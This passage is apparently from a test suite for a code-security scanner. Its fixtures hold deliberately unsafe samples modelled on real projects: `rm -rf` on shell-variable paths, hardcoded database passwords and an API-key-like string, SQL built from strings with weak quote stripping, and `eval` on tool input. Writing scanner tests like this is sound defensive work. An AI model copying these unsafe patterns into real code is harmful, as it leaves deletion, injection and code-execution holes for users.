    expect(await check('backend-rag/src/app.py', src)).toEqual(['21 file-untrusted-path high', '23 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, hundred-and-seventeenth round: the working directory is never empty', () => {
  it('`rm -rf $(pwd)/volumes` and `rm -rf "$PWD"/cache` delete under the working directory, which the shell never leaves empty; `$(cd "$DIR" && pwd)`, another substitution, or a script that sets PWD itself still may (shell)', async () => {
    // the shape of Milvus' standalone_embed.sh, copied into an example
    const src = `#!/usr/bin/env bash
delete() {
    sudo docker rm milvus-standalone 1> /dev/null
    sudo rm -rf $(pwd)/volumes
    rm -rf "\`pwd\`/embedEtcd.yaml"
    rm -rf "$PWD"/cache
    rm -rf $(cd "$DIR" && pwd)/build
    rm -rf "$(git rev-parse --show-toplevel)"/dist
}
reset() {
    PWD="$1"
    rm -rf "$PWD"/cache
}
`;
    expect((await check('community/oran-chatbot-multimodal/standalone_embed.sh', src)).filter((f) => f.includes('rm-rf'))).toEqual([
      '7 shell-rm-rf-variable high',
      '8 shell-rm-rf-variable high',
      '12 shell-rm-rf-variable high',
    ]);
  });
});

describe('agent code not used for tuning, hundred-and-twentieth round: a database URL for this machine', () => {
  it('a password in a URL for `127.0.0.1` or `localhost` is a local set-up\'s default (low); the same for another host, or a provider\'s key, keeps its grade (Python)', async () => {
    // the shape of GPTCache's default connection URLs
    const src = `SQL_URL = {
    "sqlite": "sqlite:///./sqlite.db",
    "postgresql": "postgresql+psycopg2://postgres:Xk29vQ7pLm@127.0.0.1:5432/postgres",
    "mysql": "mysql+pymysql://root:Xk29vQ7pLm@localhost:3306/mysql",
    "ipv6": "postgresql://postgres:Xk29vQ7pLm@[::1]:5432/postgres",
    "remote": "postgresql://postgres:Xk29vQ7pLm@db.prod.acme.io:5432/postgres",
    "lookalike": "postgresql://postgres:Xk29vQ7pLm@127.0.0.1.acme.io:5432/postgres",
}
OPENAI = "sk-proj-Qm7Zt2Lx9Vb4Nc8Kd1Wr6Yh3Jp5Sg0Fa2Ue7Io9Ty4Rb1Xn"
`;
    expect((await check('gptcache/manager/scalar_data/manager.py', src)).filter((f) => f.includes('secret'))).toEqual([
      '3 hardcoded-secret low',
      '4 hardcoded-secret low',
      '5 hardcoded-secret low',
      '6 hardcoded-secret high',
      '7 hardcoded-secret high',
      '9 hardcoded-secret high',
    ]);
  });
});

describe('agent code not used for tuning, hundred-and-twenty-fifth round: a bundle of node_modules', () => {
  it('a plain JavaScript file with two or more `// node_modules/…` module comments is a bundler\'s output (generated); one such comment, or TypeScript, is not', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    // the shape of chatbox's bundled `shell-env.cjs`
    const bundle = 'var __create = Object.create;\nvar __commonJS = (cb, mod) => () => (mod || cb((mod = { exports: {} }).exports, mod), mod.exports);\n\n// node_modules/cross-spawn/lib/parse.js\nvar require_parse = __commonJS((exports2, module2) => {});\n\n// node_modules/cross-spawn/index.js\nvar require_cross_spawn = __commonJS((exports2, module2) => {\n  var cp = require("child_process");\n});\n';
    expect(classifyContext('src/main/mcp/shell-env.cjs', bundle)).toBe('generated');
    expect(classifyContext('packages/env/src/fs/memfs/index.js', '// ../../node_modules/memfs/lib/a.js\nvar a = 1;\n// ../../node_modules/memfs/lib/b.js\nvar b = 2;\n')).toBe('generated');
    expect(classifyContext('src/run.js', '// node_modules/cross-spawn/index.js has the same bug; we work around it here\nconst cp = require("child_process");\n')).toBe('production');
    expect(classifyContext('src/run.ts', bundle)).toBe('production');
  });
});

describe('agent code not used for tuning, hundred-and-twenty-third round: apostrophes taken out', () => {
  it('`str(v).replace("\'", \'"\')` leaves no `\'` to close a single-quoted literal (as doubling them does); a replacement that keeps `\'` or brings `\\`, or a value outside quotes, is still SQL from data (Python)', async () => {
    // the shape of llmware's `write_new_record`
    const src = `import sqlite3


class Library:
    def __init__(self, path):
        self.conn = sqlite3.connect(path)

    def write_new_record(self, new_record):
        values = ", ".join("'" + str(v).replace("'", '"') + "'" for v in new_record.values())
        self.conn.cursor().execute(f"INSERT INTO library VALUES ({values});")

    def write_stripped(self, name):
        clean = name.replace("'", "")
        self.conn.cursor().execute(f"INSERT INTO library VALUES ('{clean}');")

    def write_kept(self, name):
        clean = name.replace("'", "\\\\'")
        self.conn.cursor().execute(f"INSERT INTO library VALUES ('{clean}');")

    def write_unquoted(self, name):
        clean = name.replace("'", "")
        self.conn.cursor().execute(f"DELETE FROM library WHERE library_name = {clean};")
`;
    expect((await check('llmware/resources.py', src)).filter((f) => f.includes('sql-injection'))).toEqual([
      '18 sql-injection medium',
      '22 sql-injection medium',
    ]);
  });

  it('the same in TypeScript: `name.replaceAll("\'", "")` and `.replace(/\'/g, \'"\')` take every `\'` out; `.replace("\'", "")` takes only the first', async () => {
    const src = `import Database from 'better-sqlite3';
const db = new Database('lib.db');
export function save(name: string, title: string, note: string) {
  db.exec(\`INSERT INTO library VALUES ('\${name.replaceAll("'", "")}')\`);
  db.exec(\`INSERT INTO library VALUES ('\${title.replace(/'/g, '"')}')\`);
  db.exec(\`INSERT INTO library VALUES ('\${note.replace("'", "")}')\`);
}
`;
    // (better-sqlite3's driver is not named here as one whose literals take no backslash escape: graded low, as doubling is)
    expect((await check('src/library.ts', src)).filter((f) => f.includes('sql-injection'))).toEqual(['4 sql-injection low', '5 sql-injection low', '6 sql-injection medium']);
  });
});

describe('agent code not used for tuning, hundred-and-twenty-eighth round: every character one of a constant set', () => {
  it('`if not all(c in "0123456789+-*/(). " for c in expression): return` before `eval(expression)` leaves arithmetic only, as `re.fullmatch(r"[0-9+\\-*/(). ]+", expression)` does; a set with letters, or a check of another value, does not (Python)', async () => {
    // the shape of tau-bench's calculate tool
    const src = `from langchain_core.tools import tool

DIGITS_AND_OPS = "0123456789+-*/(). "


@tool
def calculate(expression: str) -> str:
    """Calculate the result of a mathematical expression."""
    if not all(char in "0123456789+-*/(). " for char in expression):
        return "Error: invalid characters in expression"
    return str(round(float(eval(expression, {"__builtins__": None}, {})), 2))


@tool
def calculate_named(expression: str) -> str:
    """Calculate."""
    if not all(ch in DIGITS_AND_OPS for ch in expression):
        return "Error"
    return str(eval(expression))


@tool
def calculate_letters(expression: str) -> str:
    """Calculate."""
    if not all(ch in "0123456789+-*/() abcdefghijklmnopqrstuvwxyz_." for ch in expression):
        return "Error"
    return str(eval(expression))


@tool
def calculate_other(expression: str, label: str) -> str:
    """Calculate."""
    if not all(ch in DIGITS_AND_OPS for ch in label):
        return "Error"
    return str(eval(expression))
`;
    expect((await check('tau_bench/envs/airline/tools/calculate.py', src)).filter((f) => f.includes('code-eval'))).toEqual([
      '11 code-eval low',
      '19 code-eval low',
      '27 code-eval critical',
      '35 code-eval critical',
    ]);
  });
});

describe('agent code not used for tuning, hundred-and-thirty-first round: loops over the program\'s tables', () => {
  it('`for method in self.mapping[name]` over a table whose entries are lists of constant names, and `for name in TOOLS` over a dict\'s keys, give one of those names: `eval(method)` runs the program\'s own; a table with one dynamic entry, or a loop over data, still runs code from outside (Python)', async () => {
    // the shape of superduper's query methods
    const src = `import json
import typing as t

from langchain_core.tools import tool

MAPPING = {"select": ["filter", "outputs"], "filter": ["outputs"]}


class Query:
    mapping: t.ClassVar[t.Dict] = {"select": ["filter", "outputs"], "filter": ["outputs"]}

    def bind(self, name):
        for method in self.mapping[name]:
            setattr(self, method, eval(method))

    def bind_all(self):
        for method in self.mapping:
            setattr(self, method, eval(method))


@tool
def run(name: str, code: str) -> str:
    """Run a query step."""
    mixed = {"select": ["filter"], "other": [code]}
    for method in MAPPING[name]:
        eval(method)
    for method in mixed[name]:
        eval(method)
    for key in json.loads(code):
        eval(key)
    return name
`;
    expect((await check('superduper/base/query.py', src)).filter((f) => f.includes('code-eval'))).toEqual(['28 code-eval critical', '30 code-eval critical']);
  });
});
